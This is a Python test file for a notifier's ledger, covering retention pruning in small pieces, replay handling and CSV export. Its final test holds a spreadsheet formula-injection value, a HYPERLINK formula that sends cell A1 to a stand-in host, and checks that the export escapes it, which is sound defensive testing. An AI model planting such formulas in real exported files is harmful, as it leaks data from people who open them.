"""What is finished and old goes piece by piece; what is unfinished stays, whatever its age."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sqlalchemy import insert, select

from notifier.domain.decision import Stopped
from notifier.domain.fact import Kind
from notifier.ledger import export, notifications, pruning
from notifier.ledger.database import Database
from notifier.ledger.notifications import Filter
from notifier.ledger.pruning import Pruner
from notifier.ledger.schema import attempts, claims, events, replays
from notifier.ledger.schema import notifications as kept
from notifier.ledger.writing import FactWriter
from notifier.sections import Retention
from tests import told
from tests.told import ACKNOWLEDGED, NOW, Told, notification

DAY = 86_400_000
KEPT = Retention(payloads=10, attempts=20, notifications=30)


async def write(database: Database, *facts: Told) -> None:
    await FactWriter(database).write(facts)


def delivered(name: str, at: int = NOW) -> list[Told]:
    one = notification(name, enqueued_at=at)
    return [told.accepted(one, at), told.attempted(one, ACKNOWLEDGED, at=at + 5), told.completed(one, at + 5)]


def unfinished(name: str, at: int = NOW) -> list[Told]:
    one = notification(name, enqueued_at=at)
    return [told.attempted(one, at=at + 5), told.held(one, at=at + 5)]


async def rows(database: Database, column: Any) -> list[Any]:
    async with database.connect() as connection:
        return list((await connection.execute(select(column).order_by(column))).scalars())


async def pieces(pruner: Pruner, now_ms: int) -> list[int]:
    """Prunes until nothing is left; how much each piece was."""
    done = [await pruner.prune(now_ms)]
    while done[-1]:
        done.append(await pruner.prune(now_ms))
    return done


@pytest.fixture
async def both(database: Database) -> Database:
    """One that is finished, and one that is not."""
    await write(database, *delivered("done"), *unfinished("open"))
    return database


async def stands(database: Database) -> tuple[list[str], list[str], list[str], list[str]]:
    """Ids of the notifications, of those with payload, and whose attempts and events there are."""
    async with database.connect() as connection:
        query = select(kept.c.id).where(kept.c.payload.is_not(None)).order_by(kept.c.id)
        with_payload = list((await connection.execute(query)).scalars())
    return (
        await rows(database, kept.c.id),
        with_payload,
        sorted(set(await rows(database, attempts.c.notification))),
        sorted(set(await rows(database, events.c.notification))),
    )


@pytest.mark.parametrize(
    ("days", "left"),
    [
        (9, (["done", "open"], ["done", "open"], ["done", "open"], ["done", "open"])),
        (11, (["done", "open"], ["open"], ["done", "open"], ["done", "open"])),
        (21, (["done", "open"], ["open"], ["open"], ["open"])),
        (31, (["open"], ["open"], ["open"], ["open"])),
        (9999, (["open"], ["open"], ["open"], ["open"])),
    ],
)
async def test_each_kind_goes_after_its_own_time_and_nothing_of_what_is_unfinished(
    both: Database, days: int, left: tuple[list[str], ...]
) -> None:
    await pieces(Pruner(both, KEPT), NOW + days * DAY)
    assert await stands(both) == left


async def test_what_is_replayed_in_time_is_kept_as_long_as_it_is_unfinished(both: Database) -> None:
    again = notification("done", run=1)
    await write(both, told.opened(again, Kind.REPLAYED, 1, NOW + DAY))
    lost = notification("lost")
    await write(both, told.exhausted(lost), told.opened(lost, Kind.REPLAYED, 1, NOW + DAY))
    await pieces(Pruner(both, KEPT), NOW + 9999 * DAY)
    assert (await stands(both))[:2] == (["done", "lost", "open"], ["done", "lost", "open"]), "delivered ones, too"
    await write(both, told.exhausted(again, NOW + 2 * DAY))
    await pieces(Pruner(both, KEPT), NOW + 31 * DAY)
    assert "done" in await rows(both, kept.c.id), "its time begins with its last end"
    await pieces(Pruner(both, KEPT), NOW + 33 * DAY)
    assert await rows(both, kept.c.id) == ["lost", "open"]


async def test_it_goes_in_small_pieces(database: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pruning, "PIECE", 4)
    await write(database, *(fact for n in range(10) for fact in delivered(f"ntf_{n}", NOW + n)))
    pruner = Pruner(database, KEPT)
    assert await pieces(pruner, NOW + 11 * DAY) == [4, 4, 2, 0]
    assert await pieces(pruner, NOW + 21 * DAY) == [8, 8, 6, 4, 4, 0]  # ten attempts beside twenty events
    assert await pieces(pruner, NOW + 31 * DAY) == [4, 4, 2, 0]
    assert await stands(database) == ([], [], [], [])


async def test_after_a_start_those_without_payload_are_passed_piece_by_piece(
    database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They are a year's, and whoever looks for others among them all at once is cut off before it has found any."""
    monkeypatch.setattr(pruning, "PIECE", 3)
    monkeypatch.setattr(pruning, "_LOOKED_AT", 4)
    await write(database, *(fact for n in range(10) for fact in delivered(f"old_{n}", NOW + n)))
    await pieces(Pruner(database, KEPT), NOW + 11 * DAY)
    await write(database, *(fact for n in range(4) for fact in delivered(f"new_{n}", NOW + 2 * DAY)))
    again = Pruner(database, KEPT)
    assert await pieces(again, NOW + 12 * DAY + 5 * 3_600_000) == [1, 1, 2, 2, 0]
    assert (await stands(database))[1] == []


async def test_many_that_ended_in_the_same_moment_all_lose_their_payload(
    database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pruning, "PIECE", 3)
    await write(database, *(fact for n in range(10) for fact in delivered(f"ntf_{n}")))
    await pieces(Pruner(database, KEPT), NOW + 11 * DAY)
    assert (await stands(database))[1] == []


async def test_the_row_says_afterwards_that_its_payload_is_gone_and_how_often_it_was_tried(both: Database) -> None:
    await pieces(Pruner(both, KEPT), NOW + 21 * DAY)
    shown = await notifications.show(both, "done")
    assert shown is not None
    assert (shown["payload_kept"], shown["payload"], shown["attempts"], shown["attempt_log"]) == (False, None, 1, [])


async def test_old_claims_and_old_jobs_go_and_a_running_job_stays(database: Database) -> None:
    claim = {"scope": "s", "digest": "d", "ids": "[]", "taken_at": 0}
    job = {"filter": "{}", "who": "ann", "total": 1, "done": 1, "skipped": 0, "created_at": NOW}
    async with database.begin() as connection:
        aged = [claim | {"key": name, "created_at": at} for name, at in (("old", NOW), ("new", NOW + 30 * DAY))]
        await connection.execute(insert(claims), aged)
        for name, state, finished in (("ended", "done", NOW), ("runs", "running", None)):
            await connection.execute(
                insert(replays).values(job | {"id": name, "state": state, "finished_at": finished})
            )
    await pieces(Pruner(database, KEPT), NOW + 31 * DAY)
    assert (await rows(database, claims.c.key), await rows(database, replays.c.id)) == (["new"], ["runs"])


async def test_notifications_are_exported_line_by_line(both: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "PAGE", 1)
    text = io.StringIO()
    assert await export.write(both, Filter(), text) == 2
    first, second = csv.DictReader(io.StringIO(text.getvalue(), newline=""))
    assert tuple(first) == export.NOTIFICATION_COLUMNS
    assert (first["id"], first["status"], first["reason"], first["payload_kept"]) == (
        "open",
        "held",
        "disabled",
        "true",
    )
    assert (second["id"], second["finished_at"], second["reason"]) == ("done", "2026-11-21T10:00:00.005Z", "")


async def test_attempts_are_exported_in_the_order_of_their_notifications(both: Database) -> None:
    text = io.StringIO()
    assert await export.write(both, Filter.parse({"merchant": "m1"}), text, attempts=True) == 2
    lines = list(csv.DictReader(io.StringIO(text.getvalue(), newline="")))
    assert tuple(lines[0]) == export.ATTEMPT_COLUMNS
    assert [(line["notification"], line["reference"], line["status"], line["next_tier"]) for line in lines] == [
        ("open", "order-4711", "500", "3s"),
        ("done", "order-4711", "200", ""),
    ]


async def test_what_does_not_match_is_not_exported_and_the_head_is_there_all_the_same(both: Database) -> None:
    text = io.StringIO()
    assert await export.write(both, Filter.parse({"merchant": "nobody"}), text) == 0
    assert text.getvalue() == ",".join(export.NOTIFICATION_COLUMNS) + "\r\n"


async def test_no_text_of_others_is_a_formula_for_a_spreadsheet(database: Database) -> None:
    hostile = '=HYPERLINK("http://x/?"&A1,"order, 42")'
    one = notification(reference=hostile)
    await write(database, told.accepted(one), told.concluded(one, Stopped("-1+1\r\nnext line", False)))
    text = io.StringIO()
    await export.write(database, Filter(), text)
    (line,) = csv.DictReader(io.StringIO(text.getvalue(), newline=""))
    assert (line["reference"], line["reason"]) == (f"'{hostile}", "'-1+1\r\nnext line")
